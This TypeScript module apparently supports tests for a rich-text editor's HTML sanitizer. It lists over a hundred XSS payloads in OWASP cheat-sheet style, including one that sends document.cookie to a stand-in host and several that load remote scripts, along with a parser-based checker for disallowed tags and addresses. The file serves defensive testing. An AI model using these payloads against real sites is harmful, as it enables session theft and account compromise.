import { Parser } from 'htmlparser2';

/**
 * Script-injection payloads (after the OWASP XSS filter evasion cheat sheet and the usual HTML5 vectors),
 * plus every event handler on every kind of element that may carry one: what rich text must never store.
 */
const CLASSIC = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<script src=//xss.example/a.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script>/*</script><script>*/alert(1)</script>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("RSnake says, XSS")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC= onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>',
  '<a href="jav&#x09;ascript:alert(1);">x</a>',
  '<a href="jav&#x0A;ascript:alert(1);">x</a>',
  '<a href="jav&#x0D;ascript:alert(1);">x</a>',
  '<a href=" &#14;  javascript:alert(1);">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>',
  '<iframe src=http://xss.example/scriptlet.html <',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<p style="x:expression(alert(1))">styled</p>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>',
  '<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT ="blah" SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="httx://xss.example/xss.js"></SCRIPT>',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<a href="https://ok.example" onclick="alert(1)">looks fine</a>',
  '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
  '<strong onmouseover=alert(1)>bold</strong>',
  '<p><a href="javascript:void(0)" onclick="steal()">click</a></p>',
  '<img src="x" alt="" onerror="fetch(\'//evil.example/?c=\'+document.cookie)">',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</p><script>alert(1)</script><p>',
  '<scri%00pt>alert(1)</scri%00pt>',
  '<script\x20type="text/javascript">alert(1);</script>',
  '<script\x0Dtype="text/javascript">alert(1);</script>',
  '<script\x0Atype="text/javascript">alert(1);</script>',
  '<script\x09type="text/javascript">alert(1);</script>',
  '<a href="java\u0000script:alert(1)">nul</a>',
  '<a href="&#106avascript:alert(1)">entity without semicolon</a>',
  '<a href="  javascript:alert(1)">leading spaces</a>',
  '<a href="javascript://%0aalert(1)">comment newline</a>',
  '<a href="jAvAsCrIpT:alert(1)">mixed case</a>',
  '<a href="https://ok.example" target="_self" rel="opener">rel</a>',
  '<div><h1 onclick=alert(1)>heading</h1></div>',
  '<ul><li onmouseenter=alert(1)>item</li></ul>',
  '<blockquote cite="javascript:alert(1)">quote</blockquote>',
  '<code onpointerdown=alert(1)>code</code>',
];

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
];
const CARRIERS = ['img src=x', 'p', 'a href="https://ok.example"', 'svg', 'body', 'div', 'em', 'li'];

export const XSS_PAYLOADS: readonly string[] = [
  ...CLASSIC,
  ...HANDLERS.flatMap((handler) =>
    CARRIERS.map((carrier) => `<${carrier} ${handler}="alert('${handler}')">text</${carrier.split(' ')[0]}>`),
  ),
];

const TAGS = new Set(['p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'del', 'code', 'pre', 'blockquote']);
for (const tag of ['h1', 'h2', 'h3', 'h4', 'ul', 'ol', 'li', 'a', 'hr', 'mark', 'sub', 'sup']) TAGS.add(tag);
const ATTRIBUTES: Record<string, string[]> = { a: ['href', 'target', 'rel'], ol: ['start'] };

/** Every way stored HTML could run code: an element or attribute outside the editor's, a script address. */
export function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!TAGS.has(name)) found.push(`element ${name}`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!(ATTRIBUTES[name] ?? []).includes(attribute)) found.push(`attribute ${name}.${attribute}`);
        if (attribute === 'href' && !/^(https?:|mailto:|tel:|\/(?!\/)|#)/i.test(value.trim()))
          found.push(`address ${value}`);
      }
    },
  });
  parser.write(html);
  parser.end();
  return found;
}
